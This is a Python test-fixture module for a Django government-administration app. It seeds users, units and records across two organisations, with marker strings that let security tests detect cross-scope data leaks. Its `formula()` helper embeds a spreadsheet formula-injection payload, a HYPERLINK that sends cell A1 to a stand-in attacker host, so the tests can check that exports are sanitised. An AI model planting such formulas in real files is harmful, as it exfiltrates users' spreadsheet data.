"""The world the route × role suite runs in: the demo cast, a second organisation, and one object of
every kind the URL map names, in several units, each carrying a marker of its unit in a text field.

A response shown to a user must never contain the marker of a unit outside that user's scope
(``leaks``): that is how a list or an export that forgot its ``scope_queryset`` is caught, even when
its status code is a perfectly ordinary 200.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

from django.core.files.base import ContentFile
from django.db.models import Model

from cchc.apps.org.access import Obj, can_access_unit
from cchc.apps.org.models import Role, Unit, UnitKind, User

OTHER_ORG = "ZZ-SOKHAC"
# Where objects are placed: two phòng and the Văn phòng of the demo Sở, and a phòng of another Sở.
PLACES = ("QLVH", "QLDL", "VP", "X")
# One account per role (the cast of tests/apps/conftest.py) and one with no role at all, which must be
# refused everywhere a capability is needed: it makes every capability check observable.
ROLE_USERS = (
    "giamdoc",
    "vanphong",
    "truongphong.vh",
    "chuyenvien.vh",
    "motcua",
    "kiemtra",
    "quantri",
    "norole",
    "truongphong.so",
    "chuyenvien.so",
)


def marker_of(code: str) -> str:
    return f"QZ{re.sub(r'[^A-Z0-9]', '', code)}ZQ"


def marker(unit: Unit) -> str:
    return marker_of(unit.code)


def formula(text: str) -> str:
    """A text a spreadsheet would run as a formula if an export wrote it as one (formula injection)."""
    return f'=HYPERLINK("http://ke-gian.example/?q="&A1,"{text}")'


@dataclass
class World:
    users: dict[str, User]
    places: dict[str, Unit]
    objects: dict[str, dict[str, Model]] = field(default_factory=dict)  # model label → place → object
    owned: dict[str, dict[str, Model]] = field(default_factory=dict)  # model label → username → object
    singles: dict[str, Model] = field(default_factory=dict)  # model label → the one unscoped object
    extras: dict[str, Any] = field(default_factory=dict)

    def unit_of(self, obj: Model, spec: Obj) -> Unit | None:
        if spec.unit is None:
            return None
        if spec.unit == "":
            return obj  # type: ignore[return-value]
        value: Any = obj
        for part in spec.unit.split("__"):
            value = getattr(value, part)
        return value

    def leaks(self, user: User, text: str) -> list[str]:
        """Markers in ``text`` of units that ``user`` may not see."""
        found = []
        for unit in self.places.values():
            if marker(unit) in text and not can_access_unit(user, unit):
                found.append(unit.code)
        return found


def readable_text(response: Any) -> str:
    """The response as text, with XLSX/DOCX/ZIP members unpacked (PDFs are compressed: skipped)."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(content)) as z:
                return "\n".join(
                    z.read(n).decode("utf-8", "replace") for n in z.namelist() if not n.endswith(".pdf")
                )
        except zipfile.BadZipFile:
            pass
    if content[:5] == b"%PDF-":
        return ""
    return content.decode("utf-8", "replace")


def _user(username: str, unit: Unit, role: str, last_name: str = "") -> User:
    user, _ = User.objects.get_or_create(
        username=username,
        defaults={"unit": unit, "role": role, "last_name": last_name, "first_name": "Văn A"},
    )
    return user


def build_world(cast: dict[str, User], units: dict[str, Unit]) -> World:
    from cchc.apps.core.models import CalendarOverride
    from cchc.apps.directives.models import (
        CalendarToken,
        Directive,
        Evidence,
        ExtensionRequest,
        ImportDraft,
        ProgressReport,
        Target,
        Task,
    )
    from cchc.apps.documents.models import (
        ArchivedItem,
        ArchiveFile,
        IncomingDocument,
        OutgoingDocument,
        Register,
        Status,
    )
    from cchc.apps.dossiers.models import Feed, FeedFile, ImportJob, PortalImport, PortalScore
    from cchc.apps.finance.models import Asset, AutonomyRecord, Disclosure
    from cchc.apps.finance.models import ImportBatch as FinanceBatch
    from cchc.apps.institutions.models import ImportBatch as InstitutionsBatch
    from cchc.apps.institutions.models import LegalDocument, ReviewItem, ReviewRound
    from cchc.apps.org.models import ImportBatch as OrgBatch
    from cchc.apps.people.models import Course, Evaluation, StaffRecord
    from cchc.apps.people.models import ImportBatch as PeopleBatch
    from cchc.apps.procedures.models import (
        CostParameter,
        ImportBatch,
        Procedure,
        RejectedRow,
        SimplificationPlan,
    )
    from cchc.apps.reports.models import Report

    # The other Sở carries its marker in its units' names too: nobody of Lai Châu but the system
    # administrator may see even the name of a unit of another organisation.
    other_root = Unit.objects.create(
        code=OTHER_ORG,
        name=f"Sở Khác {marker_of(f'{OTHER_ORG}-P1')}",
        abbreviation="SK",
        kind=UnitKind.DEPARTMENT,
    )
    other = Unit.objects.create(
        code=f"{OTHER_ORG}-P1", name=formula(f"Phòng Một {marker_of(f'{OTHER_ORG}-P1')}"), abbreviation="P1",
        kind=UnitKind.DIVISION, parent=other_root,
    )  # fmt: skip
    places = {"QLVH": units["QLVH"], "QLDL": units["QLDL"], "VP": units["VP"], "X": other}
    users = {name: cast[name] for name in ROLE_USERS if name in cast}
    # No role, but a unit whose scope is the whole Sở: only its missing capabilities can refuse it, so a
    # capability check that a scope check would otherwise hide is observable.
    users["norole"] = _user("norole", units[""], "")
    # The same trick for two roles that hold view capabilities: a unit head and an officer whose unit is
    # the Sở itself see everything, so what refuses them a sign, an issue or an approval is the capability.
    users["truongphong.so"] = _user("truongphong.so", units[""], Role.UNIT_HEAD)
    users["chuyenvien.so"] = _user("chuyenvien.so", units[""], Role.OFFICER)
    world = World(users=users, places=places)
    admin = cast["quantri"]
    today = dt.date.today()

    def put(label: str, place: str, obj: Model) -> None:
        world.objects.setdefault(label, {})[place] = obj

    for place, unit in places.items():
        m = marker(unit)
        put("org.Unit", place, unit)
        staff = _user(f"nv.{place.lower()}", unit, Role.OFFICER, last_name=m)
        put("org.User", place, staff)
        directive = Directive.objects.create(
            subject=f"Chỉ đạo {m}", unit=unit, created_by=admin, number=f"1/{place}"
        )
        task = Task.objects.create(
            directive=directive,
            unit=unit,
            number="1",
            summary=formula(f"Nhiệm vụ {m}"),
            deadline=today + dt.timedelta(days=60),
        )
        Task.objects.create(  # overdue: the overdue list and its export have a row
            directive=directive, unit=unit, number="2", summary=formula(f"Quá hạn {m}"),
            deadline=today - dt.timedelta(days=30),
        )  # fmt: skip
        Target.objects.create(task=task, metric=formula(f"chỉ tiêu {m}"), text=formula(m), value=Decimal(10))
        ExtensionRequest.objects.create(
            task=task, requested_by=staff, new_deadline=today + dt.timedelta(days=90), reason=f"lý do {m}"
        )
        report = ProgressReport.objects.create(task=task, author=staff, percent=10, text=f"Báo cáo {m}")
        evidence = Evidence(report=report, name=f"minh-chung-{place}.txt")
        evidence.file.save(evidence.name, ContentFile(f"Minh chứng {m}".encode()))
        put("directives.Evidence", place, evidence)
        put("directives.Directive", place, directive)
        put("directives.Task", place, task)
        root = unit.root()
        doc = OutgoingDocument.objects.create(
            doc_type="CONG_VAN", unit=unit, organisation=root, subject=f"Công văn {m}", body="Nội dung.",
            signatory_name="Trần Mạnh Hùng", signatory_position="Giám đốc", created_by=admin,
            status=Status.PENDING,  # submitted for signing: sign, return and issue all reach their checks
        )  # fmt: skip
        doc.docx.save(f"du-thao-{doc.pk}.docx", ContentFile(b"PK\x03\x04 docx"), save=False)
        doc.signed_pdf.save(f"ky-{doc.pk}.pdf", ContentFile(b"%PDF-1.7\n%%EOF\n"), save=False)
        doc.pdf.save(f"trinh-ky-{doc.pk}.pdf", ContentFile(b"%PDF-1.7\n%%EOF\n"), save=False)
        doc.save()
        put("documents.OutgoingDocument", place, doc)
        issued = OutgoingDocument.objects.create(
            doc_type="CONG_VAN", unit=unit, organisation=root, subject=formula(f"Đã ban hành {m}"), body="Nội dung.",
            signatory_name="Trần Mạnh Hùng", signatory_position="Giám đốc", created_by=admin,
            status=Status.ISSUED, year=today.year, number=len(world.objects["org.Unit"]), symbol=f"SVHTTDL-{place}",
            issue_date=today, is_electronic=True, digitally_signed=True,
        )  # fmt: skip
        register, _ = Register.objects.get_or_create(
            organisation=root, direction="den", year=today.year, defaults={"name": "Sổ văn bản đến"}
        )
        incoming = IncomingDocument.objects.create(
            register=register, organisation=root, year=today.year, arrival_number=900 + len(world.objects["org.Unit"]),
            arrival_date=today, author=formula("UBND tỉnh"), subject=formula(f"Văn bản đến {m}"), receiving_unit=unit, created_by=admin,
        )  # fmt: skip
        incoming.pdf.save(f"den-{place}.pdf", ContentFile(b"%PDF-1.7\n%%EOF\n"))
        put("documents.IncomingDocument", place, incoming)
        archive_file = ArchiveFile.objects.create(
            organisation=root, unit=unit, organ_id=root.code[:13], file_catalog=today.year,
            file_notation=f"HS-{place}", title=f"Hồ sơ {m}", creator="Lò Thu Hương", start_date=today,
        )  # fmt: skip
        put("documents.ArchiveFile", place, archive_file)
        item = ArchivedItem(archive_file=archive_file, document=issued, sha256="0" * 64)
        item.file.save(f"luu-tru-{place}.pdf", ContentFile(b"%PDF-1.7\n%%EOF\n"))
        put("documents.ArchivedItem", place, item)
        procedure = Procedure.objects.create(
            code=f"9.{900000 + len(world.objects['org.Unit'])}",
            name=f"Thủ tục {m}",
            unit=unit,
            field=f"Lĩnh vực {m}",
        )
        put("procedures.Procedure", place, procedure)
        SimplificationPlan.objects.create(
            procedure=procedure, unit=unit, year=today.year, content=f"Phương án {m}"
        )
        batch = ImportBatch.objects.create(
            file_name=f"danh-muc-{m}.csv", kind="catalogue", unit=unit, created_by=admin
        )
        put("procedures.ImportBatch", place, batch)
        put(
            "procedures.RejectedRow",
            place,
            RejectedRow.objects.create(batch=batch, row_number=2, raw={"ma_tthc": m}),
        )
        record = StaffRecord.objects.create(
            code=f"NS-{place}",
            user=staff,
            family_name=m,
            given_name="Văn A",
            unit=unit,
            id_number="012345678901",
        )
        put("people.StaffRecord", place, record)
        put(
            "people.Course", place, Course.objects.create(code=f"KH-{place}", name=f"Khóa học {m}", unit=unit)
        )
        put("people.ImportBatch", place, PeopleBatch.objects.create(kind="staff", file_name=f"can-bo-{m}.xlsx", unit=unit))  # fmt: skip
        put(
            "people.Evaluation",
            place,
            Evaluation.objects.create(staff=record, period="2026-Q1", scheme="nd335"),
        )
        disclosure = Disclosure(unit=unit, year=today.year, duty="du_toan", note=m)
        disclosure.proof_file.save(f"cong-khai-{place}.pdf", ContentFile(b"%PDF-1.7\n%%EOF\n"))
        put("finance.Disclosure", place, disclosure)
        put(
            "finance.AutonomyRecord",
            place,
            AutonomyRecord.objects.create(unit=unit, year=today.year, group=4, note=m),
        )
        put("finance.Asset", place, Asset.objects.create(unit=unit, code=f"TS-{place}", name=f"Tài sản {m}", kind="xe", value=1))  # fmt: skip
        put("org.ImportBatch", place, OrgBatch.objects.create(file_name=f"bien-che-{m}.xlsx", unit=unit))
        put("finance.ImportBatch", place, FinanceBatch.objects.create(kind="asset", file_name=f"tai-san-{m}.xlsx", unit=unit))  # fmt: skip
        put(
            "reports.Report",
            place,
            Report.objects.create(
                unit=unit,
                period="2026-Q1",
                kind="quarter",
                title=f"Báo cáo CCHC {m}",
                due_on=dt.date(2026, 3, 20),
                texts={"chi_dao": f"Nội dung {m}"},
            ),
        )
        legal = LegalDocument.objects.create(
            unit=unit, symbol=f"{len(world.objects['org.Unit'])}/2024/QĐ-UBND", doc_type="Quyết định",
            title=formula(f"Quy định {m}"), issuer="UBND tỉnh", issued_on=dt.date(2024, 3, 1), relation="chu_tri",
            effect="con_hieu_luc",
        )  # fmt: skip
        put("institutions.LegalDocument", place, legal)
        review_round = ReviewRound.objects.create(
            unit=unit, title=formula(f"Rà soát {m}"), kind="ra_soat", trigger_date=today,
            due_on=today + dt.timedelta(days=20),
        )  # fmt: skip
        put("institutions.ReviewRound", place, review_round)
        put("institutions.ReviewItem", place, ReviewItem.objects.create(round=review_round, document=legal))
        portal = PortalImport.objects.create(
            unit=unit, file_name=f"cong-{m}.csv", sha256="0" * 64, layout="dài", rows_count=2, user=admin
        )
        for level, group, indicator, score in (("indicator", "TDGQ", "2.1", 18), ("group", "TDGQ", "", 18)):
            PortalScore.objects.create(
                portal_import=portal, unit=unit, where="dòng 2", unit_code=unit.code, unit_name=f"Đơn vị {m}",
                period="2026-03", level=level, group=group, indicator=indicator, score=Decimal(score), dossiers=10,
            )  # fmt: skip
        put("dossiers.PortalImport", place, portal)
        repealed = LegalDocument.objects.create(  # a second item of the round: the items' paging is observable
            unit=unit, symbol=f"{len(world.objects['org.Unit'])}/2020/QĐ-UBND", doc_type="Quyết định",
            title=f"Quy định cũ {m}", issuer="UBND tỉnh", issued_on=dt.date(2020, 3, 1), relation="ap_dung",
            effect="het_toan_bo",
        )  # fmt: skip
        ReviewItem.objects.create(round=review_round, document=repealed)
        put(
            "institutions.ImportBatch",
            place,
            InstitutionsBatch.objects.create(kind="documents", file_name=f"van-ban-{m}.xlsx", unit=unit),
        )

    # A task of one phòng (QLDL) on which another (QLVH) is named as coordinating unit (phối hợp): its staff
    # read it and comment on it, and change nothing else (tests/security/probes.py::coordinating_unit).
    # No marker: what the coordinating staff see of it is theirs to see.
    joint = Directive.objects.create(
        subject="Chỉ đạo phối hợp", unit=places["QLDL"], created_by=admin, number="2/PH"
    )
    coordinated = Task.objects.create(
        directive=joint, unit=places["QLDL"], number="1", summary="Nhiệm vụ phối hợp",
        deadline=today + dt.timedelta(days=60),
    )  # fmt: skip
    coordinated.coordinating_units.set([places["QLVH"]])
    Target.objects.create(task=coordinated, metric="chỉ tiêu phối hợp", text="chỉ tiêu", value=Decimal(10))
    ExtensionRequest.objects.create(
        task=coordinated, requested_by=world.objects["org.User"]["QLDL"],
        new_deadline=today + dt.timedelta(days=90), reason="lý do",
    )  # fmt: skip
    world.extras["coordinated_task"] = coordinated

    for directive in world.objects["directives.Directive"].values():  # last: saving tasks re-saves directives
        stored = directive.source_file.storage.save(
            f"directives/chi-dao-{directive.pk}.txt", ContentFile(b"x")
        )
        Directive.objects.filter(pk=directive.pk).update(source_file=stored)
        directive.refresh_from_db()
    for name, user in users.items():
        draft = ImportDraft(name="x.txt", text="Văn bản", parsed={}, created_by=user)
        draft.file.save(f"nhap-{name}.txt", ContentFile("Văn bản".encode()))
        world.owned.setdefault("directives.ImportDraft", {})[name] = draft
        world.owned.setdefault("directives.CalendarToken", {})[name] = CalendarToken.objects.get_or_create(
            user=user
        )[0]
    world.singles["core.CalendarOverride"] = CalendarOverride.objects.create(
        day=dt.date(2026, 9, 5), name="Làm bù"
    )
    world.singles["dossiers.ImportJob"] = ImportJob.objects.create(
        file_name="hoso.csv",
        file_path="/nonexistent/hoso.csv",
        status="failed",
        user=cast["chuyenvien.vh"],  # its owner may not import (any more): the capability check must refuse
    )
    for place, unit in places.items():  # a continuous feed per place, with a file waiting for a mapping
        m = marker(unit)
        feed = Feed.objects.create(source=f"nguon-{m}", folder=f"nguon-{place.lower()}", unit=unit)
        put("dossiers.Feed", place, feed)
        put(
            "dossiers.FeedFile",
            place,
            FeedFile.objects.create(feed=feed, name=f"{m}.csv", status="needs_mapping", path="/nonexistent"),
        )
    _assessment_world(world, units, admin)
    # An applied change (withdrawing it is refused with a message, so every request on it is repeatable);
    # withdrawing a pending one is a service call (tests/security/services.py, org.withdraw_change).
    from cchc.apps.org.models import UnitChange

    applied = UnitChange.objects.create(
        kind="rename", effective_on=dt.date(2026, 1, 1), decision_number="9/QĐ-TG", new_name=places["QLVH"].name,
        old_name=places["QLVH"].name, applied_on=dt.date(2026, 1, 1),
    )  # fmt: skip
    applied.sources.set([places["QLVH"]])
    world.singles["org.UnitChange"] = applied
    world.singles["procedures.CostParameter"] = CostParameter.objects.create(
        name="Thu nhập bình quân", hourly_income=30000, source="Tổng cục Thống kê", year=2025
    )
    return world


def _assessment_world(world: World, units: dict[str, Unit], admin: User) -> None:
    """The demo Sở's 2026 self-assessment on the sample set and one evidence file per place (the year's
    pages then render, and the evidence download has an object in and out of each user's scope)."""
    import dataclasses
    import hashlib

    from cchc.apps.assessment import selectors as assessment_selectors
    from cchc.apps.assessment.models import Assessment, Entry, EvidenceFile
    from cchc.apps.assessment.services import ensure_sample_set, save_criteria_set

    version = ensure_sample_set()
    world.singles["assessment.CriteriaSetVersion"] = version
    # a second version of the set (a province's edit), so the list of sets is a list (paging is observable)
    sample = assessment_selectors.criteria_set(version)
    save_criteria_set(
        user=None, cset=dataclasses.replace(sample, version=f"{sample.version}-sua"), origin="editor"
    )
    a = Assessment.objects.create(organisation=units[""], year=2026, criteria_set=version, created_by=admin)
    world.singles["assessment.Assessment"] = a
    # last year's, so the list of years is a list (paging is observable)
    Assessment.objects.create(organisation=units[""], year=2025, criteria_set=version, created_by=admin)
    codes = [i.code for i in assessment_selectors.criteria_set(version).items()]
    Entry.objects.bulk_create(
        [Entry(assessment=a, code=c, unit=units["QLVH"] if c == "1.1.1" else None) for c in codes]
    )
    for place, unit in world.places.items():
        content = f"Minh chứng {marker(unit)}".encode()
        evidence = EvidenceFile(
            organisation=unit.root(), unit=unit, name=f"Tài liệu {marker(unit)}", kind="upload",
            sha256=hashlib.sha256(content).hexdigest(), size=len(content), created_by=admin,
        )  # fmt: skip
        evidence.file.save(f"minh-chung-{place}.txt", ContentFile(content))
        world.objects.setdefault("assessment.EvidenceFile", {})[place] = evidence
